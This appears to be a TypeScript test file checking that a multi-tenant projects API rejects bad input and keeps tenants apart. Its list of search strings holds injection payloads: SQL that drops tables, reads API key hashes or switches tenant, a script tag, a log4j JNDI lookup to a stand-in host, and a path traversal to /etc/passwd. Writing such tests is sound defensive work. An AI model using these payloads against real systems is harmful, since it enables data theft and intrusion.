import { post, type Row, type Stage, type Theme } from '../bad-input.ts';

const path = '/v1/projects';
const unstorable = 'holds a character that cannot be stored';

const project = async ({ world }: Stage, of: 'asAcme' | 'asGlobex'): Promise<string> =>
  (await world[of].post<{ readonly id: string }>(path, { name: 'Rocket' })).body.id;

const names: [what: string, name: string, message: string][] = [
  ['nothing', '""', 'is too short or too small'],
  ['white space', '" \\n "', 'is too short or too small'],
  ['201 characters', JSON.stringify('x'.repeat(201)), 'is too long or too large'],
  ['a NUL', '"a\\u0000b"', unstorable],
  ['half a surrogate pair', '"\\ud800"', unstorable],
  ['null', 'null', 'is missing or of the wrong type'],
];

/** Texts that are as good as any other: they are found, or not, and do nothing else. */
const harmless: [what: string, text: string][] = [
  ['SQL', "'; drop table app.projects; --"],
  ['SQL of a union', "x' union select secret_hash from app.api_keys --"],
  [
    'SQL that switches the tenant',
    "' || set_config('app.tenant_id', '00000000-0000-7000-8000-000000000000', false) || '",
  ],
  ['a statement of its own', '$$; select pg_sleep(10); $$'],
  ['a parameter', '$1'],
  ['a wildcard', '%'],
  ['a backslash', '\\'],
  ['text from right to left', '\u202eRocket\u202c'],
  ['no width', 'Ro\u200bcket\u200d\ufeff'],
  ['composed letters', 'e\u0301'.repeat(50)],
  ['an emoji of many parts', '👩‍👩‍👧‍👦'.repeat(5)],
  ['the last character of all', '\u{10ffff}'],
  ['a private one', '\ue000'],
  ['HTML', '<script>alert(1)</script>'],
  ['a template', '<%= process.env %>'],
  ['a log4j look-up', '${jndi:ldap://elsewhere.example/a}'],
  ['a path', '../../../../etc/passwd'],
];

export const theme: Theme = {
  rows: [
    ...names.map(([what, name, message]): Row => ({
      what: `a name of ${what}`,
      request: post(path, `{"name":${name}}`),
      status: 422,
      errors: { name: message },
    })),
    ...harmless.map(([what, text]): Row => ({
      what: `a search for ${what}`,
      request: { path: `${path}?q=${encodeURIComponent(text)}` },
      status: 200,
    })),
    {
      what: 'a search for a NUL',
      request: { path: `${path}?q=a%00b` },
      status: 400,
      errors: { q: unstorable },
    },
    {
      what: 'a search for 201 characters',
      request: { path: `${path}?q=${'x'.repeat(201)}` },
      status: 400,
      errors: { q: 'is too long or too large' },
    },
    {
      what: 'two searches',
      request: { path: `${path}?q=a&q=b` },
      status: 400,
      errors: { q: 'is missing or of the wrong type' },
    },
    {
      what: 'a cursor by name with a NUL',
      request: {
        path: `${path}?sort=name&cursor=${Buffer.from(JSON.stringify(['name', 'a\0b', '01890000-0000-7000-8000-000000000000'])).toString('base64url')}`,
      },
      status: 400,
      detail: 'The cursor is not one of this list with this sort.',
      errors: { cursor: 'is not a cursor of this list' },
    },
    {
      what: 'a cursor of another tenant, which finds nothing of that tenant',
      request: async (stage) => {
        await project(stage, 'asGlobex');
        await project(stage, 'asGlobex');
        const { body } = await stage.world.asGlobex.get<{ readonly nextCursor: string }>(
          `${path}?limit=1&sort=createdAt`,
        );
        return { path: `${path}?sort=createdAt&cursor=${body.nextCursor}` };
      },
      status: 200,
    },
    {
      what: "another tenant's project",
      request: async (stage) => ({ path: `${path}/${await project(stage, 'asGlobex')}` }),
      status: 404,
    },
    {
      what: "a change of another tenant's project",
      request: async (stage) => ({
        ...post(`${path}/${await project(stage, 'asGlobex')}`, { name: 'Mine' }),
        method: 'PATCH',
      }),
      status: 404,
    },
    {
      what: "a change of another tenant's project in whatever version",
      request: async (stage) => ({
        ...post(`${path}/${await project(stage, 'asGlobex')}`, { name: 'Mine' }, { 'if-match': '*' }),
        method: 'PATCH',
      }),
      status: 404,
    },
    {
      what: "the end of another tenant's project",
      request: async (stage) => ({ method: 'DELETE', path: `${path}/${await project(stage, 'asGlobex')}` }),
      status: 404,
    },
    {
      what: 'the end of a project in another version',
      request: async (stage) => ({
        method: 'DELETE',
        path: `${path}/${await project(stage, 'asAcme')}`,
        headers: { 'if-match': '"2"' },
      }),
      status: 412,
      detail: 'It was changed since you read it. Read it again.',
    },
  ],
};
